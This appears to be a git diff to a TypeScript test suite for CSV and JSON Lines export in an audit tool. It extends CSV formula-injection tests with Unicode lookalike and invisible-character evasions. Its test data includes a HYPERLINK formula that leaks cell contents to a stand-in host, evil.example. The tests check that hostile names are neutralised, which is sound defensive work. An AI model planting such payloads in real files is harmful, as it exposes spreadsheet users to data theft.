@@ -9,7 +9,7 @@ import { createHash, createHmac } from 'node:crypto'
 import { mkdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, describe, expect, it } from 'vitest'
-import { csvCell, FORMULA_START } from '../../../src/main/base/csv'
+import { csvCell, FORMULA_START, startsFormula } from '../../../src/main/base/csv'
 import { dispatch } from '../../../src/main/handlers/dispatch'
 import { createHandlers } from '../../../src/main/handlers/table'
 import { AuditSession } from '../../../src/main/session/session'
@@ -23,9 +23,25 @@ const tmp = tempDir('bijotel-csv-injection-')
 
 afterAll(() => tmp.cleanup())
 
-const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '==', '=-', '@@', ' =', '\t=', '\r\n=']
+/** Compatibility forms NFKC folds to a formula character: fullwidth and small `= + - @`. */
+const COMPAT = ['\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b']
+/** Format characters that draw nothing (zero-width space, word joiner, LRM/RLM, RLO), and the fullwidth quote and space. */
+const INVISIBLE_LEADERS = ['\u200b', '\u2060', '\u200e', '\u200f', '\u202e', '\uff02', '\u3000']
+const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '==', '=-', '@@', ' =', '\t=', '\r\n=', ...COMPAT]
 /** What an importer may trim or drop before a formula character (spaces, NBSP, BOM, NUL, quotes). */
-const LEADERS = [' ', '  ', '\n', '\u00a0', '\ufeff', '\0', '"', ' "', '\u2003', '\r\n ']
+const LEADERS = [
+  ' ',
+  '  ',
+  '\n',
+  '\u00a0',
+  '\ufeff',
+  '\0',
+  '"',
+  ' "',
+  '\u2003',
+  '\r\n ',
+  ...INVISIBLE_LEADERS,
+]
 const PAYLOADS = [
   'HYPERLINK("http://evil.example/?leak="&A1,"click")',
   'SUM(1,2)',
@@ -38,7 +54,7 @@ const PAYLOADS = [
 
 /** Every prefix before every payload: the names a hostile writer could give providers and models. */
 export function hostileNames(): string[] {
-  const led = LEADERS.flatMap((l) => ['=', '+', '-', '@'].map((f) => l + f + PAYLOADS[0]!))
+  const led = LEADERS.flatMap((l) => ['=', '+', '-', '@', ...COMPAT].map((f) => l + f + PAYLOADS[0]!))
   return [...PREFIXES.flatMap((p) => PAYLOADS.map((x) => p + x)), ...led].filter((s) => s !== '')
 }
 
@@ -49,7 +65,10 @@ export function hostileNames(): string[] {
  */
 function runnable(cell: string): boolean {
   if (cell.startsWith("'")) return false
-  return /^[\t\r\0]/.test(cell) || /^[=+\-@]/.test(cell.replace(/^[\s\0"\u00a0\ufeff]+/u, ''))
+  const folded = cell.normalize('NFKC')
+  return [cell, folded].some(
+    (c) => /^[\t\r\0]/.test(c) || /^[=+\-@]/.test(c.replace(/^[\s\0"\u00a0\ufeff\p{Cf}]+/u, '')),
+  )
 }
 
 /** RFC 4180 parse of `text` into rows of cells (quoted cells may hold commas, quotes and newlines). */
@@ -189,7 +208,7 @@ describe('the cell encoder', () => {
       const back = parseCsv(enc + '\r\n')[0]?.[0] ?? ''
       expect(FORMULA_START.test(back), JSON.stringify(v)).toBe(false)
       expect(runnable(back), JSON.stringify(v)).toBe(false)
-      expect(back).toBe(FORMULA_START.test(v) ? `'${v}` : v)
+      expect(back).toBe(startsFormula(v) ? `'${v}` : v)
     }
   })
 })
@@ -211,6 +230,40 @@ describe('the view export (exportView, CSV) of chains carrying hostile names', (
       const written = new Set([...names, ...names.map((n) => [...n].reverse().join(''))])
       // Every provider and model name came back, neutralised.
       expect(checkCells(content, written)).toBeGreaterThanOrEqual(names.length)
+    } finally {
+      session.dispose()
+    }
+  })
+})
+
+/** Python's str.splitlines() boundaries (built from code points: the lint forbids raw controls in a pattern). */
+const SPLITLINES = new RegExp(
+  '\r\n|[' +
+    [0x0a, 0x0d, 0x0b, 0x0c, 0x1c, 0x1d, 0x1e, 0x85, 0x2028, 0x2029]
+      .map((c) => String.fromCharCode(c))
+      .join('') +
+    ']',
+)
+
+describe('the view export as JSON Lines', () => {
+  it('one record a line for every reader, whatever line terminator a name holds', async () => {
+    const breakers = ['\u2028', '\u2029', '\u0085', '\r', '\n', '\u000b', '\u000c', '\u001c', '\u001e']
+    const names = breakers.flatMap((b) => [`a${b}b`, `${b}{"seq":1}`, `x${b}${b}=1+1`])
+    const path = join(tmp.dir, 'jsonl.db')
+    writeChain(path, names)
+    const session = new AuditSession({})
+    try {
+      session.keys = parseSecrets([{ encoding: 'hex', value: KEY.toString('hex') }])
+      await session.open(path)
+      const table = createHandlers(session)
+      const r = await dispatch(table, 'exportView', { format: 'jsonl' }, { transport: 'ipc', trusted: true })
+      if (!r.ok) throw new Error(r.error.error)
+      const { content } = r.value as { content: string }
+      // Every line terminator Python's str.splitlines() and ECMAScript know: one record each.
+      const lines = content.split(SPLITLINES).filter((l) => l !== '')
+      expect(lines).toHaveLength(names.length)
+      const seen = lines.map((l) => JSON.stringify(JSON.parse(l) as unknown))
+      for (const n of names) expect(seen.some((l) => l.includes(JSON.stringify(n).slice(1, -1)))).toBe(true)
     } finally {
       session.dispose()
     }
